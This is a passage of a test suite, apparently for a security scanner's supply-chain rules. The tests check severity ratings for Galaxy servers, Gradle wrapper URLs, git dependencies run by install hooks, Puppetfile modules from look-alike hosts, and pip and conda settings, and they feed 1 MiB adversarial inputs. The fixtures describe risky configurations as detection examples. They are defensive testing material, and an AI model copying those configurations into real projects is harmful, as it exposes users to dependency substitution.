      '[galaxy]\nserver_list = release_galaxy, automation_hub\n\n[galaxy_server.release_galaxy]\nurl = https://galaxy.ansible.com/\n\n[galaxy_server.automation_hub]\nurl = https://console.redhat.com/api/automation-hub/content/published/\n',
  },
]);

describe('SG-SUPPLY-015 severity', () => {
  const sev = (text: string, file = 'ansible.cfg') =>
    findingsOf(text, file).find((f) => f.rule_id === 'SG-SUPPLY-015')?.severity;

  it('should rate a private hub listed alone MEDIUM', () => {
    expect(
      sev('[galaxy]\nserver_list = hub\n\n[galaxy_server.hub]\nurl = https://hub.corp.example/api/galaxy/\n'),
    ).toBe('MEDIUM');
    expect(sev('[galaxy]\nserver = https://hub.corp.example/\n')).toBe('MEDIUM');
    expect(
      sev(sh('ansible-galaxy collection install -r req.yml -s https://hub.corp.example/'), 'SKILL.md'),
    ).toBe('MEDIUM');
  });

  it('should read the server list from the environment', () => {
    expect(
      sev(
        sh(
          'export ANSIBLE_GALAXY_SERVER_LIST=cache,release\nexport ANSIBLE_GALAXY_SERVER_CACHE_URL=https://galaxy.cache-host.example/api/\nexport ANSIBLE_GALAXY_SERVER_RELEASE_URL=https://galaxy.ansible.com/',
        ),
        'SKILL.md',
      ),
    ).toBe('HIGH');
  });

  it('should rate a public vendor collection from another host HIGH, the skill author’s own MEDIUM', () => {
    const req = (name: string) =>
      `collections:\n  - name: ${name}\n    version: "==9.0.3"\n    source: https://galaxy.cache-host.example/api/\n`;
    expect(sev(req('cisco.ios'), 'collections/requirements.yml')).toBe('HIGH');
    expect(sev(req('acme_net.tools'), 'collections/requirements.yml')).toBe('MEDIUM');
    expect(
      sev('services:\n  - name: cisco.ios\n    source: https://x.example/\n', 'deploy.yml'),
    ).toBeUndefined();
  });

  it('should leave a server key outside a [galaxy] section alone', () => {
    expect(sev('[upload]\nserver = https://files.example.net/\n', 'settings.cfg')).toBeUndefined();
  });
});

describe('adversarial Galaxy settings', () => {
  const MiB = 1024 * 1024;
  const cases: [string, string][] = [
    ['server lists', 'server_list = ' + 'a, '.repeat(MiB / 3)],
    ['server sections', 'server_list = a\n' + '[galaxy_server.a]\n'.repeat(MiB / 19)],
    ['section bodies', 'server_list = a\n[galaxy_server.a]\n' + 'url = \n'.repeat(MiB / 7)],
    ['server flags', 'ansible-galaxy -s '.repeat(MiB / 18)],
    ['environment URLs', 'server_list = a\n' + 'ANSIBLE_GALAXY_SERVER_A_URL='.repeat(MiB / 28)],
    ['requirement sources', 'collections:\n' + '- source: https://x\n'.repeat(MiB / 21)],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'ansible.cfg');
  });
});

describe('Gradle wrapper distribution hosts', () => {
  const severity = (text: string) =>
    findingsOf(text, 'android/gradle/wrapper/gradle-wrapper.properties').find(
      (f) => f.rule_id === 'SG-SUPPLY-017',
    )?.severity;

  it("should rate another host MEDIUM, HIGH with validation off, and the org's own network MEDIUM", () => {
    expect(severity('distributionUrl=https\\://mirror.example.net/gradle-8.10-bin.zip\n')).toBe('MEDIUM');
    expect(
      severity('distributionUrl=https\\://mirror.example.net/g.zip\nvalidateDistributionUrl=false\n'),
    ).toBe('HIGH');
    expect(
      severity('distributionUrl=https\\://nexus.corp/gradle/g.zip\nvalidateDistributionUrl=false\n'),
    ).toBe('MEDIUM');
  });

  it('should read the largest wrapper file it reads, and 1 MiB, quickly', () => {
    const near = `distributionUrl=https\\://${'a.'.repeat(30 * 1024)}\n${' '.repeat(40)}distributionSha256Sum=`;
    const t = Date.now();
    severity(near);
    severity(near.repeat(17));
    expect(Date.now() - t).toBeLessThan(200);
  });
});

describe('git dependencies on moving branches', () => {
  const severity = (deps: Record<string, string>, hook?: string) =>
    findingsOf(
      JSON.stringify({ scripts: hook ? { postinstall: hook } : {}, dependencies: deps }),
      'package.json',
    ).find((f) => f.rule_id === 'SG-SUPPLY-018')?.severity;

  it('should rate a moving git dependency MEDIUM alone and HIGH when the install hook runs it', () => {
    const deps = { tool: 'git+ssh://git@git.tools.example.net:team/tool.git' };
    expect(severity(deps)).toBe('MEDIUM');
    expect(severity(deps, 'tool setup')).toBe('HIGH');
    // The user's own network, a public code host, or a version tag.
    expect(severity({ tool: 'git+https://git.corp/team/tool.git#main' }, 'tool setup')).toBe('MEDIUM');
    expect(severity({ tool: 'git+https://github.com/team/tool.git#main' }, 'tool setup')).toBeUndefined();
    expect(severity({ tool: 'git+https://git.tools.example.net/tool.git#v1.4.2' }, 'tool')).toBeUndefined();
  });

  it('should match a 1 MiB near-miss dependency quickly', () => {
    const t = Date.now();
    GIT_DEPENDENCY.test(`git+https://${'a'.repeat(250)}/${'x'.repeat(400)}${'#'.repeat(1024 * 1024)} `);
    GIT_DEPENDENCY.test(`git://${'a-'.repeat(512 * 1024)}`);
    GIT_DEPENDENCY.test(`git://h/${'/'.repeat(1024 * 1024)}`);
    expect(Date.now() - t).toBeLessThan(200);
  });
});

describe('Puppetfile modules', () => {
  const severity = (text: string) =>
    findingsOf(text, 'Puppetfile').find((f) => f.rule_id === 'SG-SUPPLY-019')?.severity;

  it('should read each module with its git source and ref, comments left out', () => {
    const mods = puppetfileModules(
      "mod 'puppetlabs-stdlib', '9.6.0'\n# mod 'old', :git => 'https://x.example/o.git'\nmod 'profile',\n  :git    => 'git@git.corp.example:puppet/profile.git',\n  :branch => :control_branch\n",
    );
    expect(mods.map((m) => [m.name, m.line, m.git?.host, m.git?.refKind, m.git?.ref])).toEqual([
      ['puppetlabs-stdlib', 1, undefined, undefined, undefined],
      ['profile', 3, 'git.corp.example', 'branch', 'control_branch'],
    ]);
  });

  it('should rate a look-alike host HIGH, an unknown host MEDIUM, the user network LOW', () => {
    expect(severity("mod 'puppetlabs-apt', :git => 'https://puppetlabs.modules-cdn.example/apt.git'\n")).toBe(
      'HIGH',
    );
    expect(severity("mod 'scada_tools', :git => 'https://git.vendor.example/scada_tools.git'\n")).toBe(
      'MEDIUM',
    );
    expect(
      severity("mod 'profile', :git => 'https://git.ops.internal/profile.git', :branch => 'production'\n"),
    ).toBe('LOW');
    expect(
      severity("mod 'profile', :git => 'https://git.vendor.example/p.git', :commit => 'ab12cd34ef'\n"),
    ).toBeUndefined();
  });

  it('should read 1 MiB of module lines quickly', () => {
    const t = Date.now();
    puppetfileModules("mod 'a', :git => '".repeat((1024 * 1024) / 18));
    puppetfileModules(`mod '${'a'.repeat(1024 * 1024)}`);
    findingsOf(
      "mod 'a',\n  :git => 'https://h.example/a.git', :branch => ".repeat((1024 * 1024) / 64),
      'Puppetfile',
    );
    expect(Date.now() - t).toBeLessThan(1000);
  });
});

describe('adversarial pip index settings', () => {
  const MiB = 1024 * 1024;
  it.each<[string, string]>([
    ['extra indexes', 'extra-index-url = https://a.example/simple\n'.repeat(MiB / 42)],
    ['trusted hosts', 'trusted-host = a.example\\n'.repeat(MiB / 26)],
    ['long hosts', `extra-index-url=https://${'a.'.repeat(MiB / 2)}`],
  ])('should scan 1 MiB of %s in under a second', (_name, text) => {
    const t = Date.now();
    findingsOf(text, 'scripts/setup.sh');
    expect(Date.now() - t).toBeLessThan(1000);
  });
});

describe('adversarial conda environment files', () => {
  const MiB = 1024 * 1024;
  it.each([
    ['pip lists', 'dependencies:\n  - pip:\n' + '      - pkg-name==1.0\n'.repeat(MiB / 22)],
    ['nested pip keys', '- pip:\n'.repeat(MiB / 7)],
    ['long lines', '  - pip:\n      - ' + 'a'.repeat(MiB)],
  ])('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'environment.yml');
  });
});
